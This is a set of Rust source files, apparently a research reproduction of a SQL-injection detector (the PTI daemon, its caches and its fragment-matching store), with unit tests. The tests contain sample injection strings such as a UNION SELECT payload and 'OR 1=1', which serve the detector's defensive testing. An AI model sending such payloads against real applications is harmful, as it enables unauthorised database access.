    fn drop(&mut self) {
        if let Some(slot) = self.slot {
            slot.park(std::mem::take(&mut self.buf));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lease_recycles_capacity() {
        let slot: BufSlot<u8> = BufSlot::new();
        let ptr = {
            let mut l = slot.lease();
            l.extend_from_slice(&[0; 4096]);
            l.as_ptr()
        };
        let l = slot.lease();
        assert!(l.is_empty());
        assert!(l.capacity() >= 4096);
        assert_eq!(l.as_ptr(), ptr, "same allocation must come back");
    }

    #[test]
    fn nested_leases_fall_back_to_fresh_vecs() {
        let slot: BufSlot<u32> = BufSlot::new();
        let mut outer = slot.lease();
        outer.extend([1, 2, 3, 4, 5, 6, 7, 8]);
        {
            let mut inner = slot.lease();
            assert!(inner.capacity() == 0, "slot is out; inner starts fresh");
            inner.push(9);
        }
        outer.push(10);
        assert_eq!(outer.len(), 9);
        drop(outer);
        // The larger (outer) buffer wins the parking spot.
        assert!(slot.parked_capacity() >= 9);
    }

    #[test]
    fn detached_lease_is_plain_vec() {
        let mut l: Lease<'_, u8> = Lease::detached();
        assert!(!l.is_recycled());
        l.extend_from_slice(b"abc");
        assert_eq!(&l[..], b"abc");
    }

    #[test]
    fn park_keeps_larger_capacity() {
        let slot: BufSlot<u8> = BufSlot::new();
        slot.park(Vec::with_capacity(100));
        slot.park(Vec::with_capacity(10));
        assert!(slot.parked_capacity() >= 100);
        slot.park(Vec::with_capacity(200));
        assert!(slot.parked_capacity() >= 200);
    }
}
