//! The PTI daemon and the application-side PTI component (§IV-C).
//!
//! The paper's daemon is "a native binary application that loads the PTI
//! dynamic library as well as the string fragments into memory, connects to
//! the web application and waits for incoming queries", communicating over
//! named or anonymous pipes. This reproduction runs the daemon as a
//! dedicated worker thread speaking a **length-prefixed binary protocol**
//! over crossbeam channels: requests and responses are serialized to byte
//! frames, so the marshalling cost the paper measures (daemon vs.
//! PHP-extension deployment, §VI-C) is actually paid here too.
//!
//! Three deployment modes mirror the paper:
//!
//! * [`DaemonMode::PerRequest`] — "in its shortest lifespan, the daemon
//!   lives for the duration of one web request" (anonymous pipes);
//! * [`DaemonMode::LongLived`] — a daemon reused across requests (named
//!   pipes, `nohup`);
//! * [`DaemonMode::InProcess`] — no daemon at all: direct calls, modelling
//!   the "PTI as PHP extension" overhead estimate.

use crate::analyzer::{PtiAnalyzer, PtiConfig};
use crate::cache::{CacheStats, QueryCache, SharedQueryCache, StructureCache};
use crate::store::FragmentStore;
use bytes::{Buf, BufMut, Bytes, BytesMut};
use crossbeam::channel::{bounded, Receiver, Sender};
use joza_phpsim::cost::simulate;
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

const TAG_CHECK: u8 = 1;
const TAG_SHUTDOWN: u8 = 2;
const TAG_VERDICT: u8 = 3;

/// How the PTI analysis is deployed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum DaemonMode {
    /// Spawn a fresh process for every query — the paper's *initial*
    /// implementation ("initiated a new process to detect SQL
    /// injections", §VI-A), the unoptimized baseline of Fig. 7.
    PerQuery,
    /// Spawn a daemon at request start, terminate it at request end
    /// ("in its shortest lifespan, the daemon lives for the duration of
    /// one web request", §IV-C1).
    PerRequest,
    /// One daemon for the component's lifetime.
    #[default]
    LongLived,
    /// No daemon: analyze in-process (the PHP-extension estimate).
    InProcess,
}

/// A daemon-side verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DaemonVerdict {
    /// Whether the query is safe.
    pub safe: bool,
    /// Whether the verdict came from the daemon's structure cache.
    pub structure_cache_hit: bool,
    /// Number of uncovered critical tokens (0 when safe).
    pub uncovered: u32,
}

/// Handle to a running PTI daemon.
#[derive(Debug)]
pub struct PtiClient {
    tx: Sender<Bytes>,
    rx: Receiver<Bytes>,
    handle: Option<JoinHandle<()>>,
}

impl PtiClient {
    /// Sends one query for analysis and waits for the verdict.
    ///
    /// # Panics
    ///
    /// Panics if the daemon thread died (a bug, not an input condition).
    pub fn check(&self, query: &str) -> DaemonVerdict {
        let mut frame = BytesMut::with_capacity(5 + query.len());
        frame.put_u8(TAG_CHECK);
        frame.put_u32(query.len() as u32);
        frame.put_slice(query.as_bytes());
        self.tx.send(frame.freeze()).expect("PTI daemon died");
        let resp = self.rx.recv().expect("PTI daemon died");
        decode_verdict(resp)
    }

    /// Shuts the daemon down and joins its thread.
    pub fn shutdown(mut self) {
        let mut frame = BytesMut::with_capacity(1);
        frame.put_u8(TAG_SHUTDOWN);
        let _ = self.tx.send(frame.freeze());
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

impl Drop for PtiClient {
    fn drop(&mut self) {
        if let Some(h) = self.handle.take() {
            let mut frame = BytesMut::with_capacity(1);
            frame.put_u8(TAG_SHUTDOWN);
            let _ = self.tx.send(frame.freeze());
            let _ = h.join();
        }
    }
}

fn decode_verdict(mut frame: Bytes) -> DaemonVerdict {
    assert!(frame.len() >= 6, "short verdict frame");
    let tag = frame.get_u8();
    assert_eq!(tag, TAG_VERDICT, "unexpected frame tag {tag}");
    let flags = frame.get_u8();
    let uncovered = frame.get_u32();
    DaemonVerdict { safe: flags & 1 != 0, structure_cache_hit: flags & 2 != 0, uncovered }
}

/// The daemon factory.
#[derive(Debug)]
pub struct PtiDaemon;

impl PtiDaemon {
    /// Spawns a daemon thread over the given fragment store.
    ///
    /// `structure_cache` enables the daemon-side query structure cache
    /// (§IV-C1). Multiple daemons can coexist (the paper runs several).
    pub fn spawn(store: Arc<FragmentStore>, config: PtiConfig, structure_cache: bool) -> PtiClient {
        let (tx_req, rx_req) = bounded::<Bytes>(64);
        let (tx_resp, rx_resp) = bounded::<Bytes>(64);
        let handle = std::thread::Builder::new()
            .name("joza-pti-daemon".to_string())
            .spawn(move || {
                let analyzer = PtiAnalyzer::new(store, config);
                let mut cache = structure_cache.then(StructureCache::new);
                while let Ok(mut frame) = rx_req.recv() {
                    if frame.is_empty() {
                        continue;
                    }
                    let tag = frame.get_u8();
                    if tag == TAG_SHUTDOWN {
                        break;
                    }
                    let len = frame.get_u32() as usize;
                    let query =
                        String::from_utf8_lossy(&frame[..len.min(frame.len())]).into_owned();

                    let cache_hit = cache.as_mut().is_some_and(|c| c.lookup(&query));
                    let (safe, from_cache, uncovered) = if cache_hit {
                        (true, true, 0)
                    } else {
                        let report = analyzer.analyze(&query);
                        let safe = !report.is_attack();
                        if safe {
                            if let Some(c) = cache.as_mut() {
                                c.insert_safe(&query);
                            }
                        }
                        (safe, false, report.uncovered_critical.len() as u32)
                    };

                    let mut resp = BytesMut::with_capacity(7);
                    resp.put_u8(TAG_VERDICT);
                    resp.put_u8(u8::from(safe) | (u8::from(from_cache) << 1));
                    resp.put_u32(uncovered);
                    if tx_resp.send(resp.freeze()).is_err() {
                        break;
                    }
                }
            })
            .expect("failed to spawn PTI daemon thread");
        PtiClient { tx: tx_req, rx: rx_resp, handle: Some(handle) }
    }
}

/// Configuration for the application-side [`PtiComponent`].
#[derive(Debug, Clone, Default)]
pub struct PtiComponentConfig {
    /// Deployment mode.
    pub mode: DaemonMode,
    /// Enable the application-side query cache (§IV-C2).
    pub query_cache: bool,
    /// Enable the daemon-side structure cache (§IV-C1).
    pub structure_cache: bool,
    /// Analyzer configuration.
    pub pti: PtiConfig,
    /// Modeled PHP-side cost of one daemon round trip (pipe `fwrite` +
    /// `fread` + request serialization). Paid per daemon check; not paid
    /// in [`DaemonMode::InProcess`] — that difference *is* the paper's
    /// "PHP extension estimate" (§VI-C). Zero by default.
    pub pipe_cost: Duration,
    /// Modeled PHP-side cost of deserializing a *full-analysis* response
    /// — "its structure and the result of its taint analysis is
    /// communicated back to the web application" (§IV-C1). Skipped on
    /// structure-cache hits (compact verdict only) and in
    /// [`DaemonMode::InProcess`]. Zero by default.
    pub response_parse_cost: Duration,
    /// Modeled cost of launching a daemon process and loading the fragment
    /// database into it (§IV-C1). Paid per spawn: once per component in
    /// [`DaemonMode::LongLived`], once per request in
    /// [`DaemonMode::PerRequest`]. Zero by default.
    pub spawn_cost: Duration,
    /// Modeled *off-CPU* wait for one daemon round trip: in the paper's
    /// deployment the PHP worker **blocks** on the named pipe while the
    /// daemon computes, burning no CPU. Unlike [`pipe_cost`] (a spinning,
    /// CPU-bound marshalling model) this is a real `thread::sleep`, so
    /// independent workers can overlap their waits — exactly the win a
    /// sharded engine buys over one that holds a global lock across the
    /// round trip. Not paid in [`DaemonMode::InProcess`]. Zero by default.
    ///
    /// [`pipe_cost`]: PtiComponentConfig::pipe_cost
    pub pipe_latency: Duration,
}

impl PtiComponentConfig {
    /// The paper's fully optimized deployment: long-lived daemon with both
    /// caches and the optimized analyzer. All modeled costs are zero.
    pub fn optimized() -> Self {
        PtiComponentConfig {
            mode: DaemonMode::LongLived,
            query_cache: true,
            structure_cache: true,
            pti: PtiConfig::optimized(),
            ..Default::default()
        }
    }

    /// The unoptimized prototype: per-request daemon, no caches, naive
    /// matcher. All modeled costs are zero.
    pub fn unoptimized() -> Self {
        PtiComponentConfig {
            mode: DaemonMode::PerRequest,
            query_cache: false,
            structure_cache: false,
            pti: PtiConfig::unoptimized(),
            ..Default::default()
        }
    }
}

/// Parse-once artifacts for one query, computed upstream by the engine's
/// check pipeline and handed to [`PtiComponent::check_prepared`].
///
/// Contract: `tokens` must be `lex(query)` for the exact query string
/// passed alongside, and `fingerprint`, when `Some`, must equal
/// `joza_sqlparse::fingerprint::fingerprint(query)`.
#[derive(Debug, Clone, Copy)]
pub struct PreparedSql<'q> {
    /// The query's lexed token stream.
    pub tokens: &'q [joza_sqlparse::token::Token],
    /// The query's structural fingerprint, if the caller already computed
    /// it (only consulted when the structure cache is enabled).
    pub fingerprint: Option<u64>,
}

/// The verdict the component reports upward to Joza.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PtiDecision {
    /// Whether the query is safe.
    pub safe: bool,
    /// Where the verdict came from.
    pub via: PtiVia,
}

/// Provenance of a PTI verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PtiVia {
    /// Application-side query cache hit.
    QueryCache,
    /// Daemon-side structure cache hit.
    StructureCache,
    /// Full fragment analysis.
    Analysis,
}

/// The application-side PTI analysis component: owns the query cache and
/// talks to (or embeds) the daemon.
#[derive(Debug)]
pub struct PtiComponent {
    config: PtiComponentConfig,
    store: Arc<FragmentStore>,
    analyzer: PtiAnalyzer,
    long_lived: Option<PtiClient>,
    per_request: Option<PtiClient>,
    query_cache: QueryCache,
    shared_query_cache: Option<Arc<SharedQueryCache>>,
    in_process_structure_cache: StructureCache,
    daemon_spawns: u64,
}

impl PtiComponent {
    /// Builds the component over a fragment vocabulary.
    pub fn new<I, S>(fragments: I, config: PtiComponentConfig) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let store = Arc::new(FragmentStore::new(fragments, config.pti.matcher));
        Self::with_store(store, config, None)
    }

    /// Builds the component over an already-compiled (shared) fragment
    /// store, optionally wiring it to a [`SharedQueryCache`].
    ///
    /// This is the constructor a lock-sharded engine uses: N per-worker
    /// components share one `Arc<FragmentStore>` (the read-mostly side) and
    /// one `Arc<SharedQueryCache>` (the shared read layer of the query
    /// cache), so a safe query analyzed by one worker is a cache hit for
    /// every other. When `shared_query_cache` is `Some`, it replaces the
    /// component-local [`QueryCache`] entirely (still gated by
    /// `config.query_cache`).
    pub fn with_store(
        store: Arc<FragmentStore>,
        config: PtiComponentConfig,
        shared_query_cache: Option<Arc<SharedQueryCache>>,
    ) -> Self {
        let analyzer = PtiAnalyzer::new(Arc::clone(&store), config.pti.clone());
        let mut component = PtiComponent {
            config,
            store,
            analyzer,
            long_lived: None,
            per_request: None,
            query_cache: QueryCache::new(),
            shared_query_cache,
            in_process_structure_cache: StructureCache::new(),
            daemon_spawns: 0,
        };
        if component.config.mode == DaemonMode::LongLived {
            component.long_lived = Some(component.spawn_daemon());
        }
        component
    }

    fn spawn_daemon(&mut self) -> PtiClient {
        self.daemon_spawns += 1;
        simulate(self.config.spawn_cost);
        PtiDaemon::spawn(
            Arc::clone(&self.store),
            self.config.pti.clone(),
            self.config.structure_cache,
        )
    }

    /// The fragment store.
    pub fn store(&self) -> &FragmentStore {
        &self.store
    }

    /// Query-cache statistics (from the shared cache when one is wired).
    pub fn query_cache_stats(&self) -> CacheStats {
        match &self.shared_query_cache {
            Some(shared) => shared.stats(),
            None => self.query_cache.stats(),
        }
    }

    /// Blocks for the modeled off-CPU pipe round-trip latency.
    fn pipe_wait(&self) {
        if !self.config.pipe_latency.is_zero() {
            std::thread::sleep(self.config.pipe_latency);
        }
    }

    /// Number of daemon processes spawned so far.
    pub fn daemon_spawns(&self) -> u64 {
        self.daemon_spawns
    }

    /// Called at request start: in [`DaemonMode::PerRequest`] this is the
    /// on-demand daemon launch.
    pub fn begin_request(&mut self) {
        if self.config.mode == DaemonMode::PerRequest {
            self.per_request = Some(self.spawn_daemon());
        }
    }

    /// Called at request end: a per-request daemon terminates alongside
    /// the application.
    pub fn end_request(&mut self) {
        if let Some(client) = self.per_request.take() {
            client.shutdown();
        }
    }

    /// Checks one query.
    pub fn check(&mut self, query: &str) -> PtiDecision {
        self.check_prepared(query, None)
    }

    /// [`PtiComponent::check`] with optional parse-once artifacts.
    ///
    /// `prep` carries the query's token stream (and, when already known,
    /// its structural fingerprint) computed upstream by the engine's
    /// pipeline. Only [`DaemonMode::InProcess`] can exploit it — the daemon
    /// modes serialize the raw query over the pipe protocol and re-lex on
    /// the daemon side, exactly as the paper's deployment does. Verdicts
    /// and cache behavior are bit-identical to [`PtiComponent::check`]
    /// under the [`PreparedSql`] contract.
    pub fn check_prepared(&mut self, query: &str, prep: Option<PreparedSql<'_>>) -> PtiDecision {
        if self.config.query_cache {
            let hit = match &self.shared_query_cache {
                Some(shared) => shared.lookup(query),
                None => self.query_cache.lookup(query),
            };
            if hit {
                return PtiDecision { safe: true, via: PtiVia::QueryCache };
            }
        }
        let verdict = match self.config.mode {
            DaemonMode::PerQuery => {
                let client = self.spawn_daemon();
                simulate(self.config.pipe_cost);
                self.pipe_wait();
                let v = client.check(query);
                if !v.structure_cache_hit {
                    simulate(self.config.response_parse_cost);
                }
                client.shutdown();
                v
            }
            DaemonMode::InProcess => {
                let fp = self.config.structure_cache.then(|| {
                    prep.as_ref()
                        .and_then(|p| p.fingerprint)
                        .unwrap_or_else(|| joza_sqlparse::fingerprint::fingerprint(query))
                });
                if fp.is_some_and(|fp| self.in_process_structure_cache.lookup_fp(fp)) {
                    DaemonVerdict { safe: true, structure_cache_hit: true, uncovered: 0 }
                } else {
                    let report = match &prep {
                        Some(p) => self.analyzer.analyze_tokens(query, p.tokens),
                        None => self.analyzer.analyze(query),
                    };
                    let safe = !report.is_attack();
                    if safe {
                        if let Some(fp) = fp {
                            self.in_process_structure_cache.insert_safe_fp(fp);
                        }
                    }
                    DaemonVerdict {
                        safe,
                        structure_cache_hit: false,
                        uncovered: report.uncovered_critical.len() as u32,
                    }
                }
            }
            DaemonMode::PerRequest => {
                if self.per_request.is_none() {
                    self.begin_request();
                }
                simulate(self.config.pipe_cost);
                self.pipe_wait();
                let v = self.per_request.as_ref().expect("spawned above").check(query);
                if !v.structure_cache_hit {
                    simulate(self.config.response_parse_cost);
                }
                v
            }
            DaemonMode::LongLived => {
                simulate(self.config.pipe_cost);
                self.pipe_wait();
                let v = self.long_lived.as_ref().expect("spawned in new").check(query);
                if !v.structure_cache_hit {
                    simulate(self.config.response_parse_cost);
                }
                v
            }
        };
        if verdict.safe && self.config.query_cache {
            match &self.shared_query_cache {
                Some(shared) => shared.insert_safe(query),
                None => self.query_cache.insert_safe(query),
            }
        }
        PtiDecision {
            safe: verdict.safe,
            via: if verdict.structure_cache_hit {
                PtiVia::StructureCache
            } else {
                PtiVia::Analysis
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FRAGS: &[&str] = &["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];
    const SAFE_Q: &str = "SELECT * FROM records WHERE ID=42 LIMIT 5";
    const ATTACK_Q: &str = "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5";

    #[test]
    fn daemon_roundtrip() {
        let store = Arc::new(FragmentStore::new(FRAGS, Default::default()));
        let client = PtiDaemon::spawn(store, PtiConfig::default(), false);
        let v = client.check(SAFE_Q);
        assert!(v.safe);
        let v = client.check(ATTACK_Q);
        assert!(!v.safe);
        assert!(v.uncovered >= 3);
        client.shutdown();
    }

    #[test]
    fn daemon_structure_cache_hits_on_same_shape() {
        let store = Arc::new(FragmentStore::new(FRAGS, Default::default()));
        let client = PtiDaemon::spawn(store, PtiConfig::default(), true);
        let v1 = client.check(SAFE_Q);
        assert!(v1.safe && !v1.structure_cache_hit);
        let v2 = client.check("SELECT * FROM records WHERE ID=777 LIMIT 5");
        assert!(v2.safe && v2.structure_cache_hit);
        // Injected shape misses the cache and is analyzed (and flagged).
        let v3 = client.check(ATTACK_Q);
        assert!(!v3.safe && !v3.structure_cache_hit);
        client.shutdown();
    }

    #[test]
    fn multiple_daemons_coexist() {
        let store = Arc::new(FragmentStore::new(FRAGS, Default::default()));
        let a = PtiDaemon::spawn(Arc::clone(&store), PtiConfig::default(), false);
        let b = PtiDaemon::spawn(store, PtiConfig::default(), false);
        assert!(a.check(SAFE_Q).safe);
        assert!(!b.check(ATTACK_Q).safe);
        a.shutdown();
        b.shutdown();
    }

    #[test]
    fn component_query_cache_path() {
        let mut c = PtiComponent::new(FRAGS, PtiComponentConfig::optimized());
        let d1 = c.check(SAFE_Q);
        assert!(d1.safe);
        assert_eq!(d1.via, PtiVia::Analysis);
        let d2 = c.check(SAFE_Q);
        assert_eq!(d2.via, PtiVia::QueryCache);
        assert_eq!(c.query_cache_stats().hits, 1);
    }

    #[test]
    fn component_never_caches_attacks() {
        let mut c = PtiComponent::new(FRAGS, PtiComponentConfig::optimized());
        assert!(!c.check(ATTACK_Q).safe);
        assert!(!c.check(ATTACK_Q).safe);
        assert_eq!(c.query_cache_stats().hits, 0);
    }

    #[test]
    fn per_request_mode_spawns_per_request() {
        let mut cfg = PtiComponentConfig::unoptimized();
        cfg.mode = DaemonMode::PerRequest;
        let mut c = PtiComponent::new(FRAGS, cfg);
        c.begin_request();
        assert!(c.check(SAFE_Q).safe);
        c.end_request();
        c.begin_request();
        assert!(!c.check(ATTACK_Q).safe);
        c.end_request();
        assert_eq!(c.daemon_spawns(), 2);
    }

    #[test]
    fn in_process_mode_matches_daemon_verdicts() {
        let mut daemon = PtiComponent::new(FRAGS, PtiComponentConfig::optimized());
        let mut inproc = PtiComponent::new(
            FRAGS,
            PtiComponentConfig { mode: DaemonMode::InProcess, ..PtiComponentConfig::optimized() },
        );
        for q in [SAFE_Q, ATTACK_Q, "SELECT * FROM records WHERE ID=9 LIMIT 5"] {
            assert_eq!(daemon.check(q).safe, inproc.check(q).safe, "{q}");
        }
    }

    #[test]
    fn shared_query_cache_spans_components() {
        let store = Arc::new(FragmentStore::new(FRAGS, PtiConfig::optimized().matcher));
        let shared = Arc::new(SharedQueryCache::new());
        let mut a = PtiComponent::with_store(
            Arc::clone(&store),
            PtiComponentConfig::optimized(),
            Some(Arc::clone(&shared)),
        );
        let mut b = PtiComponent::with_store(
            store,
            PtiComponentConfig::optimized(),
            Some(Arc::clone(&shared)),
        );
        assert_eq!(a.check(SAFE_Q).via, PtiVia::Analysis);
        // Component B never saw the query, yet hits the shared layer.
        assert_eq!(b.check(SAFE_Q).via, PtiVia::QueryCache);
        // Attacks are never cached, in either component.
        assert!(!a.check(ATTACK_Q).safe);
        assert!(!b.check(ATTACK_Q).safe);
        assert_eq!(shared.stats().inserts, 1);
    }

    #[test]
    fn check_prepared_matches_check() {
        let make = || {
            PtiComponent::new(
                FRAGS,
                PtiComponentConfig {
                    mode: DaemonMode::InProcess,
                    ..PtiComponentConfig::optimized()
                },
            )
        };
        let mut plain = make();
        let mut prepped = make();
        for q in [SAFE_Q, ATTACK_Q, "SELECT * FROM records WHERE ID=7 LIMIT 5", SAFE_Q] {
            let tokens = joza_sqlparse::lexer::lex(q);
            let fp = joza_sqlparse::fingerprint::fingerprint(q);
            let prep = PreparedSql { tokens: &tokens, fingerprint: Some(fp) };
            assert_eq!(plain.check(q), prepped.check_prepared(q, Some(prep)), "{q}");
        }
        assert_eq!(plain.query_cache_stats(), prepped.query_cache_stats());
    }

    #[test]
    fn in_process_structure_cache_works() {
        let mut c = PtiComponent::new(
            FRAGS,
            PtiComponentConfig {
                mode: DaemonMode::InProcess,
                query_cache: false,
                structure_cache: true,
                pti: PtiConfig::default(),
                ..Default::default()
            },
        );
        assert_eq!(c.check(SAFE_Q).via, PtiVia::Analysis);
        assert_eq!(c.check("SELECT * FROM records WHERE ID=1 LIMIT 5").via, PtiVia::StructureCache);
    }
}
