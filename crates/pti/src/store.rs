//! Fragment storage and compiled matchers.

use joza_phpsim::fragments::FragmentSet;
use joza_strmatch::ahocorasick::AhoCorasick;
use joza_strmatch::mru::{Match, MruScanner, NaiveScanner};
use parking_lot::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;

/// Which multi-pattern matching strategy the store uses. The paper's
/// unoptimized prototype corresponds to [`MatcherKind::Naive`]; its first
/// optimization (§VI-A) to [`MatcherKind::Mru`]; [`MatcherKind::AhoCorasick`]
/// is the asymptotically better alternative used for ablation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum MatcherKind {
    /// Scan every fragment for every query.
    Naive,
    /// Scan fragments in most-recently-matched order (the paper's
    /// fragment-cache optimization).
    Mru,
    /// A single Aho–Corasick automaton over all fragments.
    #[default]
    AhoCorasick,
}

/// Number of independent MRU scanner stripes. Stripe selection is
/// per-thread, so this bounds how many concurrent threads can scan
/// without contending on a scanner lock.
const MRU_STRIPES: usize = 16;

/// Hands each OS thread that scans a stable stripe index. Sequential
/// assignment (not hashing) keeps a single-threaded process on stripe 0 —
/// bit-identical MRU behaviour to the pre-sharded engine — and gives any
/// batch of up to [`MRU_STRIPES`] concurrently spawned scanning threads
/// distinct stripes.
fn stripe_index() -> usize {
    static NEXT_STRIPE: AtomicUsize = AtomicUsize::new(0);
    thread_local! {
        static STRIPE: usize = NEXT_STRIPE.fetch_add(1, Ordering::Relaxed);
    }
    STRIPE.with(|s| *s) % MRU_STRIPES
}

/// An immutable fragment vocabulary with a compiled matcher.
///
/// Fragment indices are stable: `occurrences` reports matches by fragment
/// index into [`FragmentStore::fragments`].
///
/// The store is the *shared read side* of a lock-sharded engine: one
/// `Arc<FragmentStore>` serves every worker. The naive scanner and the
/// Aho–Corasick automaton are immutable and scanned through `&self`; the
/// stateful MRU scanner is striped per scanning thread (lazily built), so
/// concurrent workers never serialize on a single scanner lock.
#[derive(Debug)]
pub struct FragmentStore {
    fragments: Vec<String>,
    kind: MatcherKind,
    ac: Option<AhoCorasick>,
    naive: Option<NaiveScanner>,
    mru: Option<Box<[OnceLock<Mutex<MruScanner>>]>>,
}

impl FragmentStore {
    /// Compiles a store from any fragment iterator.
    pub fn new<I, S>(fragments: I, kind: MatcherKind) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let fragments: Vec<String> =
            fragments.into_iter().map(|s| s.as_ref().to_string()).collect();
        let mut store = FragmentStore { fragments, kind, ac: None, naive: None, mru: None };
        match kind {
            MatcherKind::Naive => store.naive = Some(NaiveScanner::new(&store.fragments)),
            MatcherKind::Mru => {
                store.mru = Some((0..MRU_STRIPES).map(|_| OnceLock::new()).collect())
            }
            MatcherKind::AhoCorasick => store.ac = Some(AhoCorasick::new(&store.fragments)),
        }
        store
    }

    /// Compiles a store from an extracted [`FragmentSet`].
    pub fn from_set(set: &FragmentSet, kind: MatcherKind) -> Self {
        Self::new(set.iter(), kind)
    }

    /// The fragment vocabulary, in index order.
    pub fn fragments(&self) -> &[String] {
        &self.fragments
    }

    /// Number of fragments.
    pub fn len(&self) -> usize {
        self.fragments.len()
    }

    /// Whether the store has no fragments.
    pub fn is_empty(&self) -> bool {
        self.fragments.is_empty()
    }

    /// The configured matcher strategy.
    pub fn kind(&self) -> MatcherKind {
        self.kind
    }

    /// The calling thread's MRU scanner stripe (built on first use).
    fn mru_stripe(&self) -> &Mutex<MruScanner> {
        let stripes = self.mru.as_ref().expect("built in new");
        stripes[stripe_index()].get_or_init(|| Mutex::new(MruScanner::new(&self.fragments)))
    }

    /// All fragment occurrences in `query`, as `(fragment index, start,
    /// end)` spans.
    pub fn occurrences(&self, query: &str) -> Vec<Match> {
        let hay = query.as_bytes();
        match self.kind {
            MatcherKind::Naive => self.naive.as_ref().expect("built in new").find_all(hay),
            MatcherKind::Mru => self.mru_stripe().lock().find_all(hay),
            MatcherKind::AhoCorasick => self.ac.as_ref().expect("built in new").find_all(hay),
        }
    }

    /// Fragment occurrences with early exit: scanning stops as soon as
    /// `done` returns `true` on the matches collected so far. Only the MRU
    /// matcher can exit early (that is the point of the paper's combined
    /// MRU + parse-first optimization, §VI-A); the other strategies fall
    /// back to a full scan.
    pub fn occurrences_until<F>(&self, query: &str, done: F) -> Vec<Match>
    where
        F: Fn(&[Match]) -> bool,
    {
        match self.kind {
            MatcherKind::Mru => self.mru_stripe().lock().find_all_until(query.as_bytes(), done),
            _ => self.occurrences(query),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_matchers_agree() {
        let frags = ["SELECT * FROM t WHERE id=", " LIMIT 1", "OR", "="];
        let q = "SELECT * FROM t WHERE id=5 OR 1=1 LIMIT 1";
        let mut results: Vec<Vec<(usize, usize, usize)>> = Vec::new();
        for kind in [MatcherKind::Naive, MatcherKind::Mru, MatcherKind::AhoCorasick] {
            let store = FragmentStore::new(frags, kind);
            let mut occ: Vec<(usize, usize, usize)> =
                store.occurrences(q).iter().map(|m| (m.pattern, m.start, m.end)).collect();
            occ.sort_unstable();
            results.push(occ);
        }
        assert_eq!(results[0], results[1]);
        assert_eq!(results[0], results[2]);
        assert!(!results[0].is_empty());
    }

    #[test]
    fn empty_store() {
        let store = FragmentStore::new(Vec::<&str>::new(), MatcherKind::AhoCorasick);
        assert!(store.is_empty());
        assert!(store.occurrences("SELECT 1").is_empty());
    }

    #[test]
    fn from_set_roundtrip() {
        let mut set = FragmentSet::new();
        set.insert("SELECT");
        set.insert("FROM");
        let store = FragmentStore::from_set(&set, MatcherKind::Naive);
        assert_eq!(store.len(), 2);
        assert_eq!(store.occurrences("SELECT x FROM t").len(), 2);
    }

    #[test]
    fn mru_stripes_agree_across_threads() {
        let store = std::sync::Arc::new(FragmentStore::new(
            ["SELECT * FROM t WHERE id=", "OR", "="],
            MatcherKind::Mru,
        ));
        let q = "SELECT * FROM t WHERE id=5 OR 1=1";
        let expected: Vec<(usize, usize, usize)> =
            store.occurrences(q).iter().map(|m| (m.pattern, m.start, m.end)).collect();
        let handles: Vec<_> = (0..4)
            .map(|_| {
                let store = std::sync::Arc::clone(&store);
                std::thread::spawn(move || {
                    let mut occ: Vec<(usize, usize, usize)> = store
                        .occurrences("SELECT * FROM t WHERE id=5 OR 1=1")
                        .iter()
                        .map(|m| (m.pattern, m.start, m.end))
                        .collect();
                    occ.sort_unstable();
                    occ
                })
            })
            .collect();
        let mut want = expected;
        want.sort_unstable();
        for h in handles {
            assert_eq!(h.join().expect("scan thread panicked"), want);
        }
    }
}
