//! Fragment storage and compiled matchers.

use joza_phpsim::fragments::FragmentSet;
use joza_strmatch::ahocorasick::AhoCorasick;
use joza_strmatch::mru::{Match, MruScanner, NaiveScanner};
use parking_lot::Mutex;

/// Which multi-pattern matching strategy the store uses. The paper's
/// unoptimized prototype corresponds to [`MatcherKind::Naive`]; its first
/// optimization (§VI-A) to [`MatcherKind::Mru`]; [`MatcherKind::AhoCorasick`]
/// is the asymptotically better alternative used for ablation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum MatcherKind {
    /// Scan every fragment for every query.
    Naive,
    /// Scan fragments in most-recently-matched order (the paper's
    /// fragment-cache optimization).
    Mru,
    /// A single Aho–Corasick automaton over all fragments.
    #[default]
    AhoCorasick,
}

/// An immutable fragment vocabulary with a compiled matcher.
///
/// Fragment indices are stable: `occurrences` reports matches by fragment
/// index into [`FragmentStore::fragments`].
#[derive(Debug)]
pub struct FragmentStore {
    fragments: Vec<String>,
    kind: MatcherKind,
    ac: Option<AhoCorasick>,
    naive: Option<NaiveScanner>,
    mru: Option<Mutex<MruScanner>>,
}

impl FragmentStore {
    /// Compiles a store from any fragment iterator.
    pub fn new<I, S>(fragments: I, kind: MatcherKind) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let fragments: Vec<String> =
            fragments.into_iter().map(|s| s.as_ref().to_string()).collect();
        let mut store = FragmentStore { fragments, kind, ac: None, naive: None, mru: None };
        match kind {
            MatcherKind::Naive => store.naive = Some(NaiveScanner::new(&store.fragments)),
            MatcherKind::Mru => store.mru = Some(Mutex::new(MruScanner::new(&store.fragments))),
            MatcherKind::AhoCorasick => store.ac = Some(AhoCorasick::new(&store.fragments)),
        }
        store
    }

    /// Compiles a store from an extracted [`FragmentSet`].
    pub fn from_set(set: &FragmentSet, kind: MatcherKind) -> Self {
        Self::new(set.iter(), kind)
    }

    /// The fragment vocabulary, in index order.
    pub fn fragments(&self) -> &[String] {
        &self.fragments
    }

    /// Number of fragments.
    pub fn len(&self) -> usize {
        self.fragments.len()
    }

    /// Whether the store has no fragments.
    pub fn is_empty(&self) -> bool {
        self.fragments.is_empty()
    }

    /// The configured matcher strategy.
    pub fn kind(&self) -> MatcherKind {
        self.kind
    }

    /// All fragment occurrences in `query`, as `(fragment index, start,
